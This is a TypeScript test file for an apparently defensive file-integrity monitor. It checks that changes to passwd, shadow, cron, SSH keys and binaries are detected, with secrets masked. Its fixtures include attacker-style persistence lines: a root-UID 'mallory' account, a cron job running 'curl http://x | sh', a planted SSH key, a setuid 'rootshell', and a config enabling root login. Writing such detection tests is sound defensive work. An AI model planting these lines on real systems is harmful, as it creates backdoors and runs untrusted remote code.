/** The file monitor on a temporary root, for real: files are written, renamed and removed. */
import { createHash } from 'node:crypto';
import {
  appendFileSync,
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AlertEventBodyT } from '@vigil/protocol';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { MonitorBudget } from '../budget.js';
import type { MonitorEvent } from '../types.js';
import { FileMonitor } from './file-monitor.js';
import { homeWatchList, SYSTEM_WATCH_LIST } from './watch-list.js';

const quiet = { warn: () => {}, info: () => {} };

async function waitFor(what: string, ok: () => boolean, ms = 10_000): Promise<void> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (ok()) return;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error(`timed out waiting for ${what}`);
}

describe('file monitor', () => {
  let root: string;
  let events: MonitorEvent[];
  let monitor: FileMonitor;
  let budget: MonitorBudget;

  beforeEach(async () => {
    root = mkdtempSync(join(tmpdir(), 'vigil-files-'));
    for (const d of ['etc/cron.d', 'usr/bin', 'home/alice/.ssh', 'etc/ssh'])
      mkdirSync(join(root, d), { recursive: true });
    writeFileSync(
      join(root, 'etc/passwd'),
      'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n',
    );
    writeFileSync(join(root, 'etc/hosts'), '127.0.0.1 localhost\n');
    writeFileSync(join(root, 'home/alice/.ssh/authorized_keys'), 'ssh-ed25519 AAAA alice@laptop\n');
    writeFileSync(join(root, 'usr/bin/ls'), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2]));
    writeFileSync(
      join(root, 'etc/shadow'),
      'root:$y$j9T$secretsalt$secrethash:19000:0:99999:7:::\nalice:!:19000::::::\n',
    );
    writeFileSync(join(root, 'etc/ssh/ssh_host_ed25519_key'), '-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n');
    events = [];
    budget = new MonitorBudget({ report: () => {}, sample: () => ({ cpuPct: 0, rssBytes: 0 }) });
    monitor = new FileMonitor({
      root,
      entries: [...SYSTEM_WATCH_LIST, ...homeWatchList(['/home/alice'])],
      ignore: ['/etc/cron.d/*.bak'],
      budget,
      sink: (e) => events.push(e),
      log: quiet,
    });
    await monitor.start();
  });

  afterEach(async () => {
    await monitor.stop();
    rmSync(root, { recursive: true, force: true });
  });

  it('reports a modified passwd with old and new hashes, owner, mode and a unified diff', async () => {
    appendFileSync(join(root, 'etc/passwd'), 'mallory:x:0:0::/root:/bin/sh\n');
    await waitFor('the passwd event', () => events.length > 0);
    await monitor.idle();
    expect(events).toHaveLength(1);
    const e = events[0] as MonitorEvent;
    expect(e.fields).toMatchObject({
      type: 'file_changed',
      kind: 'modified',
      path: '/etc/passwd',
      dir: '/etc',
      category: 'accounts',
      owner: 'root',
    });
    const file = e.context.file as Record<string, unknown>;
    expect(file.old_sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(file.new_sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(file.new_sha256).not.toBe(file.old_sha256);
    expect(file.mode).toMatch(/^0[0-7]{3}$/);
    expect(file.diff).toContain('+mallory:x:0:0::/root:/bin/sh');
    expect(file.diff).toMatch(/^--- \/etc\/passwd\tbefore\n\+\+\+ \/etc\/passwd\tafter\n@@ /);
  });

  it('sees an atomic replace (write a temp file, rename over) as one modification', async () => {
    writeFileSync(join(root, 'etc/passwd.tmp-123'), 'root:x:0:0:root:/root:/bin/bash\n');
    renameSync(join(root, 'etc/passwd.tmp-123'), join(root, 'etc/passwd'));
    await waitFor('the passwd event', () => events.some((e) => e.fields.path === '/etc/passwd'));
    await new Promise((r) => setTimeout(r, 300));
    await monitor.idle();
    const mine = events.filter((e) => e.fields.path === '/etc/passwd');
    expect(mine.map((e) => e.fields.kind)).toEqual(['modified']);
    expect((mine[0]!.context.file as { diff: string }).diff).toContain(
      '-alice:x:1000:1000::/home/alice:/bin/bash',
    );
    expect(events.some((e) => String(e.fields.path).includes('tmp-123'))).toBe(false);
  });

  it('reports new cron files and authorized_keys changes, not unwatched files, ignored names or touches', async () => {
    writeFileSync(join(root, 'etc/hosts'), '10.0.0.1 evil\n');
    writeFileSync(join(root, 'etc/cron.d/old.bak'), '* * * * * root true\n');
    writeFileSync(join(root, 'etc/cron.d/.job.swp'), 'swap');
    writeFileSync(join(root, 'etc/cron.d/job'), '* * * * * root curl http://x | sh\n');
    appendFileSync(join(root, 'home/alice/.ssh/authorized_keys'), 'ssh-rsa AAAB mallory\n');
    await waitFor('two events', () => events.length >= 2);
    // Rewriting the same bytes changes nothing: no event.
    writeFileSync(
      join(root, 'etc/passwd'),
      'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n',
    );
    await new Promise((r) => setTimeout(r, 400));
    await monitor.idle();
    expect(events.map((e) => `${e.fields.category} ${e.fields.path} ${e.fields.kind}`).sort()).toEqual([
      'authorized_keys /home/alice/.ssh/authorized_keys modified',
      'cron /etc/cron.d/job created',
    ]);
    const cron = events.find((e) => e.fields.category === 'cron');
    expect((cron!.context.file as { diff: string }).diff).toContain('+* * * * * root curl http://x | sh');
  });

  it('reports deleted files and binaries without keeping their content', async () => {
    writeFileSync(join(root, 'usr/bin/ls'), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 9, 9, 9]));
    rmSync(join(root, 'home/alice/.ssh/authorized_keys'));
    await waitFor('two events', () => events.length >= 2);
    await monitor.idle();
    const ls = events.find((e) => e.fields.path === '/usr/bin/ls');
    // It existed at start (known by name, not read): a modification whose old hash is unknown.
    expect(ls?.fields).toMatchObject({
      category: 'binaries',
      kind: 'modified',
      dir: '/usr/bin',
      old_sha256: null,
    });
    expect((ls!.context.file as { diff?: string }).diff).toBeUndefined();
    expect((ls!.context.file as { new_sha256: string }).new_sha256).toMatch(/^[0-9a-f]{64}$/);
    const keys = events.find((e) => e.fields.category === 'authorized_keys');
    expect(keys?.fields.kind).toBe('deleted');
    expect((keys!.context.file as { diff: string }).diff).toContain('-ssh-ed25519 AAAA alice@laptop');
  });

  it('marks a new setuid file in a binary directory', async () => {
    writeFileSync(join(root, 'usr/bin/rootshell'), 'x');
    chmodSync(join(root, 'usr/bin/rootshell'), 0o4755);
    await waitFor('the event', () => events.some((e) => e.fields.path === '/usr/bin/rootshell'));
    await monitor.idle();
    const e = events.filter((x) => x.fields.path === '/usr/bin/rootshell').at(-1);
    expect(e?.fields.suid).toBe(true);
    expect(e?.fields.mode).toBe('4755');
  });

  it('never sends secrets: private keys get hashes only, shadow diffs show masked hashes', async () => {
    writeFileSync(
      join(root, 'etc/shadow'),
      'root:$y$j9T$newsalt$newhash:19001:0:99999:7:::\nalice:!:19000::::::\n',
    );
    writeFileSync(join(root, 'etc/ssh/ssh_host_ed25519_key'), '-----BEGIN OPENSSH PRIVATE KEY-----\nBBBB\n');
    await waitFor('two events', () => events.length >= 2);
    await monitor.idle();
    const shadow = events.find((e) => e.fields.path === '/etc/shadow');
    const diff = (shadow!.context.file as { diff: string }).diff;
    expect(diff).toMatch(/^-root:\[hash [0-9a-f]{8}\]:19000:/m);
    expect(diff).toMatch(/^\+root:\[hash [0-9a-f]{8}\]:19001:/m);
    expect(diff).not.toContain('secrethash');
    expect(diff).not.toContain('newhash');
    const key = events.find((e) => e.fields.path === '/etc/ssh/ssh_host_ed25519_key');
    expect(key?.fields).toMatchObject({ category: 'ssh_config', kind: 'modified' });
    expect((key!.context.file as { diff?: string }).diff).toBeUndefined();
    expect((key!.context.file as { new_sha256: string }).new_sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.stringify(events)).not.toContain('BBBB');
  });

  it('reports a binary removed that existed at start, and files of a new subdirectory', async () => {
    rmSync(join(root, 'usr/bin/ls'));
    mkdirSync(join(root, 'etc/ssh/sshd_config.d'));
    writeFileSync(join(root, 'etc/ssh/sshd_config.d/backdoor.conf'), 'PermitRootLogin yes\n');
    await waitFor('two events', () => events.length >= 2);
    await new Promise((r) => setTimeout(r, 200));
    await monitor.idle();
    expect(events.map((e) => `${e.fields.path} ${e.fields.kind}`).sort()).toEqual([
      '/etc/ssh/sshd_config.d/backdoor.conf created',
      '/usr/bin/ls deleted',
    ]);
    const conf = events.find((e) => e.fields.path === '/etc/ssh/sshd_config.d/backdoor.conf');
    expect((conf!.context.file as { diff: string }).diff).toContain('+PermitRootLogin yes');
  });
});

describe('file monitor under a flood', () => {
  it('re-checks a paused directory when its watch resumes: a file dropped meanwhile is reported while still shedding', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vigil-files-pause-'));
    const dir = join(root, 'etc/cron.d');
    mkdirSync(dir, { recursive: true });
    for (let i = 0; i < 10; i++) writeFileSync(join(dir, `job${i}`), `* * * * * root /bin/true ${i}\n`);
    // Shedding all along, with few events admitted a second: a flood of one second uses them all up.
    const budget = new MonitorBudget({
      report: () => {},
      sample: () => ({ cpuPct: 99, rssBytes: 0 }),
      limits: { sheddingEventsPerSecond: 5 },
    });
    budget.measure();
    const events: MonitorEvent[] = [];
    const monitor = new FileMonitor({
      root,
      entries: [{ path: '/etc/cron.d', category: 'cron', type: 'dir', depth: 0 }],
      budget,
      sink: (e) => events.push(e),
      log: quiet,
      pauseMs: 300,
    });
    await monitor.start();
    try {
      const flooded = new Set<number>();
      for (let n = 0; n < 200 && budget.shed().watches_paused === 0; n++) {
        flooded.add(n % 10);
        writeFileSync(join(dir, `job${n % 10}`), `* * * * * root /bin/true flood ${n}\n`);
        await new Promise((r) => setTimeout(r, 1));
      }
      expect(budget.shed().watches_paused).toBe(1);
      // Unwatched now: this new job raises no event of its own; only the re-check on resume can see it.
      writeFileSync(join(dir, 'dropped-while-paused'), '* * * * * root /tmp/x\n');
      await waitFor(
        'the new cron file reported',
        () => events.some((e) => e.fields.path === '/etc/cron.d/dropped-while-paused'),
        8_000,
      );
      const found = events.find((e) => e.fields.path === '/etc/cron.d/dropped-while-paused');
      expect(found?.fields.kind).toBe('created');
      expect(budget.shedding).toBe(true);
      // The flooded files were re-checked too: the last change of each is reported, with its final hash.
      await monitor.idle();
      expect(flooded.size).toBeGreaterThan(0);
      for (const i of flooded) {
        const final = createHash('sha256')
          .update(readFileSync(join(dir, `job${i}`)))
          .digest('hex');
        const last = events.filter((e) => e.fields.name === `job${i}`).at(-1);
        expect(last?.fields.new_sha256, `job${i}`).toBe(final);
      }
    } finally {
      await monitor.stop();
      rmSync(root, { recursive: true, force: true });
    }
  });
  it('pauses a directory sending more events a second than are admitted even within budget, and re-checks it', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vigil-files-pause-'));
    const dir = join(root, 'etc/cron.d');
    mkdirSync(dir, { recursive: true });
    // Within budget all along: the directory is paused for its own rate, not because the agent sheds.
    const reports: AlertEventBodyT[] = [];
    const budget = new MonitorBudget({
      report: (r) => reports.push(r),
      sample: () => ({ cpuPct: 0, rssBytes: 0 }),
      limits: { eventsPerSecond: 50 },
    });
    budget.measure();
    const events: MonitorEvent[] = [];
    const warnings: string[] = [];
    const monitor = new FileMonitor({
      root,
      entries: [{ path: '/etc/cron.d', category: 'cron', type: 'dir', depth: 0 }],
      budget,
      sink: (e) => events.push(e),
      log: { warn: (_o, msg) => warnings.push(msg ?? '') },
      pauseMs: 300,
    });
    await monitor.start();
    try {
      for (let n = 0; n < 500; n++)
        writeFileSync(join(dir, `job${n % 5}`), `* * * * * root /bin/true ${n}\n`);
      await waitFor('the flooding directory paused', () => budget.shed().watches_paused > 0);
      expect(budget.shedding).toBe(false);
      expect(warnings.some((m) => /not watched for a while/.test(m))).toBe(true);
      // Reported to the server too, with the directory's logical path.
      expect(reports.find((r) => r.rule === 'agent.monitor_watch_paused')?.key).toBe('/etc/cron.d');
      writeFileSync(join(dir, 'dropped-while-paused'), '* * * * * root /tmp/x\n');
      await waitFor('the new cron file reported', () =>
        events.some((e) => e.fields.path === '/etc/cron.d/dropped-while-paused'),
      );
    } finally {
      await monitor.stop();
      rmSync(root, { recursive: true, force: true });
    }
  });
});
